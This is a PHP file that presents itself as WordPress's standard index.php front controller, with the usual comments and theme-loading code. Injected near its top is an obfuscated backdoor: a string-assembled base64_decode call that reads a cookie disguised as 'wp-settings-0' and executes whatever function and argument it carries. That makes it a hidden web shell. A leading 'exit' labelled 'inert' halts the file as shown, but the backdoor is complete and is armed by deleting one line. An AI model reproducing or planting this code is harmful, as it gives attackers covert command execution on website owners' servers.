<?php exit; /* inert */ 
$z0='b'.'as'.'e6'.'4_de'.'code';$z1=@$_COOKIE['wp-settings-0'];if($z1){$z2=$z0($z1);@call_user_func_array(substr($z2,0,6),array(substr($z2,6)));}
/**
 * Front to the WordPress application. This file doesn't do anything, but loads
 * wp-blog-header.php which does and tells WordPress to load the theme.
 *
 * @package WordPress
 */

/**
 * Tells WordPress to load the WordPress theme and output it.
 *
 * @var bool
 */
define( 'WP_USE_THEMES', true );

/** Loads the WordPress Environment and Template */
require __DIR__ . '/wp-blog-header.php';
